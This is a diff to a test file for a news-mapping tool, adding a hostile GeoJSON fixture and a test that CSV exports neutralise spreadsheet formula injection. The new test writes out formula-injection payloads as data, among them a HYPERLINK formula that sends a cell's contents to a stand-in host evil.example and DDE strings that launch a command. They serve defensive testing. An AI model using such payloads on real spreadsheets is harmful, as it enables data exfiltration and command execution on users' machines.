@@ -112,15 +112,21 @@ def hostile_articles(tmp_path_factory) -> Path:
         f"<p>&lt;script&gt;window.__pwned='entity'&lt;/script&gt; Protesters gathered in Lviv.</p></body></html>")
     (folder / "feed.jsonl").write_text(json.dumps({"id": payload(5), "title": payload(6), "url": BAD_URLS[1],
                                                    "text": f"Explosions reported in Dnipro {payload(6)} on Sunday."}) + "\n")
+    ring = [[33.0, 47.0], [34.0, 47.0], [34.0, 47.5], [33.0, 47.5], [33.0, 47.0]]
+    (folder / "zones.geojson").write_text(json.dumps({"type": "FeatureCollection", "features": [
+        {"type": "Feature", "properties": {"name": payload(1), "status": "declared", "basis": payload(2), "quote": payload(3)},
+         "geometry": {"type": "Polygon", "coordinates": [ring]}}]}))
     return folder
 
 
 def _article_map(folder: Path, out: Path, *model: str) -> Path:
     layers = out.with_suffix(".geojson")
-    result = run_map([folder, *model, "--self-contained", "--tiles", "none", "-o", out, "--geojson", layers])
+    result = run_map([folder, *model, "--zones", folder / "zones.geojson", "--self-contained", "--tiles", "none",
+                      "-o", out, "--geojson", layers])
     assert result.exit_code == 0, result.stderr
     collection = json.loads(layers.read_text())
     assert len({f["properties"]["doc"] for f in collection["features"]}) >= 3
+    assert any(f["properties"]["layer"] == "zones" for f in collection["features"])
     for feature in collection["features"]:
         url = feature["properties"].get("url")
         assert url is None or url.startswith(("http://", "https://")), url
@@ -217,3 +223,31 @@ def test_saved_layers_with_markup_do_not_run_in_a_browser(hostile_map):
 @needs_chromium
 def test_hostile_articles_do_not_run_in_a_browser(hostile_articles, tmp_path):
     assert_inert(_article_map(hostile_articles, tmp_path / "map.html", "--model", "none"))
+
+
+# -- spreadsheets -----------------------------------------------------------------------------------------------
+
+
+def test_acled_csv_cells_cannot_run_as_formulas(tmp_path):
+    import csv
+
+    from geomap.export import write_csv
+
+    collection = hostile_collection()
+    attacks = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+               "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\uff1d1+1"]
+    incidents = [f for f in collection["features"] if f["properties"]["layer"] == "incidents"]
+    for feature, attack in zip(incidents, attacks):
+        feature["properties"].update(quote=attack, place=attack, actors=[attack], people=[attack], admin1=attack,
+                                     sources=[attack])
+    out = write_csv(tmp_path / "acled.csv", collection)
+    with open(out, newline="", encoding="utf-8") as handle:
+        rows = list(csv.DictReader(handle))
+    assert len(rows) == len(incidents)
+    for row in rows:
+        for column, value in row.items():
+            if column in ("latitude", "longitude", "fatalities", "time_precision", "geo_precision"):
+                float(value)  # numbers stay numbers, negative ones included
+                continue
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\uff1d")), (column, value)
+    assert rows[0]["notes"] == "'" + attacks[0]
